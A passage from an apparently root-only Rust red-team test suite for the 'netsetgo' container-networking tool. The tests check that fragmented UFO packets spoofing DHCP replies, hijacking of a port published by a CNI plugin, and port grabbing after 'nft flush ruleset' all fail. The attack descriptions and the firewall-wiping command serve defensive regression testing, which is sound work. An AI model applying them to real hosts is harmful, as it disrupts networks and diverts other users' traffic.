/// fragmentation offload requested through `virtio_net_hdr` on a packet
/// socket) is one whole UDP datagram when it is built, and would become IP
/// fragments only when segmented; had that happened after the host end's
/// ingress hook, the guard would never see the non-first fragment, which
/// here carries 0x0044 where a raw DHCP client reads a destination port
/// (the guard's rule for non-first fragments). A veth cannot take UFO, so
/// the kernel segments it on the container's side and every fragment
/// passes the guard: the first arrives, the shaped one does not.
#[test]
fn redteam_a_ufo_super_packet_is_fragmented_before_the_guard() {
    require_root!();
    let lab = lab("");
    let victim = Client::on(lab.victim.pid(), "veth1");
    let out = lab
        .attacker
        .exec(&["python3", "-c", UFO_SENDER, "026e0a0a0a02", "026e0a0a0a04"]);
    out.expect_success("the UFO sender");
    let frames = victim.frames(Duration::from_millis(700) * time_scale());
    let udp: Vec<&Vec<u8>> = frames
        .iter()
        .filter(|f| f.len() > 38 && f[12..14] == [8, 0] && f[23] == 17 && f[26..30] == ip(ATTACKER))
        .collect();
    let first = udp.iter().any(|f| contains(f, b"NSGREDTM-UFO-1st"));
    let shaped = udp
        .iter()
        .filter(|f| u16::from_be_bytes([f[20], f[21]]) & 0x1fff != 0 && f[36..38] == [0, 0x44])
        .count();
    assert!(
        first,
        "the first fragment did not arrive: the send did not work"
    );
    assert_eq!(
        shaped, 0,
        "a fragment shaped like a reply to port 68 reached the victim"
    );
}

// Round 3: publications on a living container, the guard's shared
// tables, the bridge's port limit, the privilege drop, the CNI plugin.

/// The CNI plugin `netplumb-bridge`: `NETPLUMB_BRIDGE_BIN`, or next to the
/// netsetgo binary under test (`scripts/build-static netsetgo
/// netplumb-bridge` builds both).
fn cni_plugin() -> String {
    let path = std::env::var("NETPLUMB_BRIDGE_BIN").unwrap_or_else(|_| {
        let netsetgo = std::env::var("NETSETGO_BIN").expect("NETSETGO_BIN is set");
        let dir = std::path::Path::new(&netsetgo)
            .parent()
            .expect("a directory");
        dir.join("netplumb-bridge").to_string_lossy().into_owned()
    });
    assert!(
        std::path::Path::new(&path).is_file(),
        "{path} is missing: run scripts/build-static netsetgo netplumb-bridge (or set NETPLUMB_BRIDGE_BIN)"
    );
    path
}

/// A container engine's ADD through the CNI plugin, as root in `world`:
/// the namespace of `pid` on bridge cnibr0 (10.77.5.0/24), its port 80
/// published as TCP host port `host_port`.
fn cni_add(world: &World, pid: u32, host_port: u16) -> netsetgo_e2e::Output {
    let conf = serde_json::json!({
        "cniVersion": "1.0.0",
        "name": "engine",
        "type": "netplumb-bridge",
        "bridge": "cnibr0",
        "isGateway": true,
        "capabilities": {"portMappings": true},
        "runtimeConfig": {"portMappings": [
            {"hostPort": host_port, "containerPort": 80, "protocol": "tcp", "hostIP": ""}
        ]},
        "ipam": {
            "type": "host-local",
            "dataDir": "/run/cni-ipam",
            "subnet": "10.77.5.0/24",
            "routes": [{"dst": "0.0.0.0/0"}]
        }
    });
    let plugin = cni_plugin();
    let netns = format!("/proc/{pid}/ns/net");
    let id = format!("CNI_CONTAINERID=engine{pid}");
    let mut cmd = world.command(
        None,
        &[
            "env",
            "CNI_COMMAND=ADD",
            &id,
            &format!("CNI_NETNS={netns}"),
            "CNI_IFNAME=eth0",
            "CNI_PATH=/usr/lib/cni",
            &plugin,
        ],
    );
    cmd.stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped());
    let mut child = cmd.spawn().expect("run the CNI plugin");
    std::io::Write::write_all(
        &mut child.stdin.take().expect("stdin"),
        conf.to_string().as_bytes(),
    )
    .expect("write the configuration");
    child
        .wait_with_output()
        .expect("wait for the plugin")
        .into()
}

/// A host port the CNI plugin publishes for a container engine's container
/// (root's) is "already published": a netsetgo user granted that port
/// must be refused, on a new interface and on a living one, and the
/// engine's container must keep its clients. (netsetgo's claims and the
/// plugin's live in different tables, `inet netsetgo` and `inet
/// netplumb-cni`, each checked only against itself; with the same dstnat
/// priority the older table's chain translates first, so the user takes
/// the engine's traffic.)
#[test]
fn redteam_a_port_the_cni_plugin_publishes_cannot_be_taken_by_a_netsetgo_user() {
    require_root!();
    use netsetgo_e2e::traffic::{request_retrying, token, Outside, Server, UPLINK4};
    let world = world_with(
        "network default bridge=brg0 gateway=10.10.10.1/24\n\
         allow nsg-a default 4\n\
         publish nsg-a default tcp 8000-8999\n",
    );
    let outside = Outside::new(&world);
    let out = outside.enter();
    // Root's engine container, published by the plugin on 8080 (before
    // any netsetgo publication: netsetgo's table is the newer one, and of
    // two nat chains of one priority the newer hooks first).
    let mut engine = world.spawn(&["unshare", "-n", "--", "sleep", "600"]);
    engine.wait_for_exec("sleep");
    let engine_pid = engine.pid();
    let added = cni_add(&world, engine_pid, 8080);
    assert!(added.success(), "the engine's ADD failed:\n{added}");
    let engine_ns = netsetgo_e2e::traffic::netns_prefix(engine_pid);
    let mut engines = Server::start(&engine_ns, "tcp", "0.0.0.0", 80);
    let t = token();
    let reply = request_retrying(&out, "tcp", UPLINK4, 8080, &t, 15);
    assert!(
        reply.success(),
        "the engine's port 8080 does not answer:\n{reply}"
    );
    assert!(
        engines.peer_of(&t, Duration::from_secs(5)).is_some(),
        "before the attack the engine's container did not get its own client"
    );

    // The attack: nsg-a publishes 8080 on a new container, and on a
    // living one.
    let attacker = world.container(A);
    let mut theirs = Server::start(&attacker.enter(), "tcp", "0.0.0.0", 80);
    let pid = attacker.pid_arg();
    let on_new = world.netsetgo(A, &["-pid", &pid, "-publish", "tcp:8080:80"]);
    let living = world.container(A);
    let w = netsetgo_e2e::checks::wire_with(&world, &living, &["-publish", "tcp:8001:80"]);
    assert!(w.ip().starts_with("10.10.10."), "{}", w.ip());
    let pid = living.pid_arg();
    let on_living = world.netsetgo(A, &["-pid", &pid, "-publish", "tcp:8080:80"]);

    // The engine's container must still get its clients, and nsg-a none.
    let t = token();
    let reply = request_retrying(&out, "tcp", UPLINK4, 8080, &t, 15);
    let engine_saw = engines.peer_of(&t, Duration::from_secs(3));
    let attacker_saw = theirs.peer_of(&t, Duration::from_secs(1));
    assert!(
        attacker_saw.is_none() && engine_saw.is_some() && reply.success(),
        "nsg-a took the engine's published port 8080 (nsg-a's container saw the client: {attacker_saw:?}, \
         the engine's: {engine_saw:?}); -publish on its living container:\n{on_living}\non a new one:\n{on_new}"
    );
    for refused in [&on_living, &on_new] {
        assert_eq!(refused.code(), Some(1), "{refused}");
        assert!(refused.stderr.contains("already published"), "{refused}");
    }
    // Such a refusal changes nothing: links, addresses, routes, leases,
    // the ruleset and the ports state.
    let fresh = world.container(A);
    for c in [&living, &fresh] {
        let again = netsetgo_e2e::checks::assert_unchanged_nft(&world, &[c], || {
            world.netsetgo(A, &["-pid", &c.pid_arg(), "-publish", "tcp:8080:80"])
        });
        assert_eq!(again.code(), Some(1), "{again}");
    }

    // The other way: a port nsg-a publishes (8001) is refused to the
    // engine's next container (code 7), which would otherwise be published
    // under netsetgo's newer chain and never get a client.
    let mut next = world.spawn(&["unshare", "-n", "--", "sleep", "600"]);
    next.wait_for_exec("sleep");
    let refused = cni_add(&world, next.pid(), 8001);
    assert!(
        !refused.success() && refused.stdout.contains("already published"),
        "the engine's ADD of a port nsg-a publishes was not refused:\n{refused}"
    );
}

/// A firewall reload (`nft flush ruleset`) drops every claim until the
/// restore unit runs. Another user granted the same host port who calls
/// in between (it can spin on `-publish` until it is accepted) must not
/// take the victim's published port for good: `-restore` must give the
/// victim's lease its port back, and the attacker's call be refused.
#[test]
fn redteam_a_port_freed_by_a_flushed_ruleset_cannot_be_taken_before_restore() {
    require_root!();
    flushed_port_taken_before_restore(&[]);
}

/// The same across two networks: nsg-b on its own network `lab`, granted
/// the same host port there (each network has its own lock and records).
#[test]
fn redteam_a_port_freed_by_a_flushed_ruleset_cannot_be_taken_from_another_network() {
    require_root!();
    flushed_port_taken_before_restore(&["-bridgeName", "labbr0"]);
}

/// nsg-a publishes tcp:8080 on `default`; the ruleset is flushed; nsg-b
/// publishes 8080 (with `b_args`: on network `lab`); root's `-restore`.
fn flushed_port_taken_before_restore(b_args: &[&str]) {
    use netsetgo_e2e::traffic::{request_retrying, token, Outside, Server, UPLINK4};
    let world = world_with(
        "network default bridge=brg0 gateway=10.10.10.1/24\n\
         network lab bridge=labbr0 gateway=10.10.20.1/24\n\
         allow nsg-a default 4\n\
         allow nsg-b default 4\n\
         allow nsg-b lab 4\n\
         publish nsg-a default tcp 8000-8999\n\
         publish nsg-b default tcp 8000-8999\n\
         publish nsg-b lab tcp 8000-8999\n",
    );
    let outside = Outside::new(&world);
    let out = outside.enter();
    let victim = world.container(A);
    netsetgo_e2e::checks::wire_with(&world, &victim, &["-publish", "tcp:8080:80"]);
    let mut victims = Server::start(&victim.enter(), "tcp", "0.0.0.0", 80);
    let attacker = world.container(B);
    let mut theirs = Server::start(&attacker.enter(), "tcp", "0.0.0.0", 80);
    let pid = attacker.pid_arg();
    let mut args = vec!["-pid", pid.as_str(), "-publish", "tcp:8080:80"];
    args.extend_from_slice(b_args);
    let before = world.netsetgo(B, &args);
    assert_eq!(
        before.code(),
        Some(1),
        "refused while the victim's claim stands:\n{before}"
    );

    world
        .run(&["nft", "flush", "ruleset"])
        .expect_success("nft flush ruleset");
    let during = world.netsetgo(B, &args);
    let restored = world.netsetgo("root", &["-restore"]);

    let t = token();
    let reply = request_retrying(&out, "tcp", UPLINK4, 8080, &t, 15);
    let victim_saw = victims.peer_of(&t, Duration::from_secs(3));
    let attacker_saw = theirs.peer_of(&t, Duration::from_secs(1));
    assert!(
        attacker_saw.is_none() && victim_saw.is_some() && reply.success(),
        "nsg-b kept nsg-a's port 8080 after -restore (nsg-b's container saw the client: {attacker_saw:?}, \
         nsg-a's: {victim_saw:?});\nnsg-b's -publish between the flush and the restore:\n{during}\n-restore:\n{restored}"
    );
    assert_eq!(during.code(), Some(1), "{during}");
    assert_eq!(restored.code(), Some(0), "{restored}");

    // Refused in the window, it changes nothing (the ruleset as flushed).
    world
        .run(&["nft", "flush", "ruleset"])
        .expect_success("nft flush ruleset");
    let again = netsetgo_e2e::checks::assert_unchanged_nft(&world, &[&attacker, &victim], || {
        world.netsetgo(B, &args)
    });
    assert_eq!(again.code(), Some(1), "{again}");
    let restored = world.netsetgo("root", &["-restore"]);
    assert_eq!(restored.code(), Some(0), "{restored}");
}
